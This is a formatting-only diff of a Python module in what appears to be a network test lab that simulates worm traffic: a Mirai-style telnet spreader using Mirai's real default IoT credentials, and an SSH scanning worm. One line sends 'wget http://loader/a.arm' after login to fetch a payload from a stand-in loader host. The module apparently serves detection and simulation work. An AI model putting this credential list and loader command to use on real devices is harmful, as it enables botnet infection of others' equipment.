@@ -11,7 +11,13 @@ from tests.lab.network import Host
 from tests.lab.stage import Stage
 from tests.lab.world import OUTSIDE
 
-CREDENTIALS = (("root", "xc3511"), ("root", "vizxv"), ("root", "admin"), ("admin", "admin"), ("root", "888888"))
+CREDENTIALS = (
+    ("root", "xc3511"),
+    ("root", "vizxv"),
+    ("root", "admin"),
+    ("admin", "admin"),
+    ("root", "888888"),
+)
 
 
 def mirai(
@@ -30,10 +36,19 @@ def mirai(
     loader = stage.outsider(rng)
     around = [str(stage.network.subnet), stage.annex, *OUTSIDE]
     caught: set[str] = set()
-    with stage.activity("spreading", "T1110.001", "telnet spreading", [me], list(around), "tcp", wanted):
+    with stage.activity(
+        "spreading", "T1110.001", "telnet spreading", [me], list(around), "tcp", wanted
+    ):
         for _ in range(probes):
-            address, port = _random_address(stage, rng, outside), wanted[0 if rng.random() < 0.85 else -1]
-            if address != me.address and address not in caught and _try(address, port, rng, patience):
+            address, port = (
+                _random_address(stage, rng, outside),
+                wanted[0 if rng.random() < 0.85 else -1],
+            )
+            if (
+                address != me.address
+                and address not in caught
+                and _try(address, port, rng, patience)
+            ):
                 caught.add(address)
                 _infect(stage, address, loader)
             stage.sleep(wait * rng.uniform(0.3, 1.7))
@@ -43,7 +58,11 @@ def mirai(
 def _random_address(stage: Stage, rng: random.Random, outside: float) -> str:
     if rng.random() < 0.15:
         return rng.choice(stage.role("gadget", "camera")).address
-    network = rng.choice(OUTSIDE) if rng.random() < outside else rng.choice((stage.annex, str(stage.network.subnet)))
+    network = (
+        rng.choice(OUTSIDE)
+        if rng.random() < outside
+        else rng.choice((stage.annex, str(stage.network.subnet)))
+    )
     return str(ipaddress.ip_network(network)[rng.randrange(1, 255)])
 
 
@@ -54,7 +73,9 @@ def _try(address: str, port: int, rng: random.Random, patience: float) -> bool:
         return False
     for user, password in rng.sample(CREDENTIALS, rng.randint(2, len(CREDENTIALS))):
         with suppress(OSError):
-            if wire.telnet_login(address, port, user, password, ["enable", "shell", "wget http://loader/a.arm"]):
+            if wire.telnet_login(
+                address, port, user, password, ["enable", "shell", "wget http://loader/a.arm"]
+            ):
                 return True
     return False
 
@@ -87,9 +108,13 @@ def ssh_worm(
     loader = stage.outsider(rng)
     around = [str(stage.network.subnet), stage.annex, *OUTSIDE]
     open_hosts = [host.address for host in stage.role("server", "nas", "exposed") if host is not me]
-    with stage.activity("spreading", "T1021.004", "SSH spreading", [me], list(around), "tcp", [port]):
+    with stage.activity(
+        "spreading", "T1021.004", "SSH spreading", [me], list(around), "tcp", [port]
+    ):
         for number in range(probes):
-            address = rng.choice(open_hosts) if number % 25 == 24 else _random_address(stage, rng, 0.5)
+            address = (
+                rng.choice(open_hosts) if number % 25 == 24 else _random_address(stage, rng, 0.5)
+            )
             with suppress(OSError):
                 if address != me.address:
                     wire.connect(address, port, timeout=patience).close()
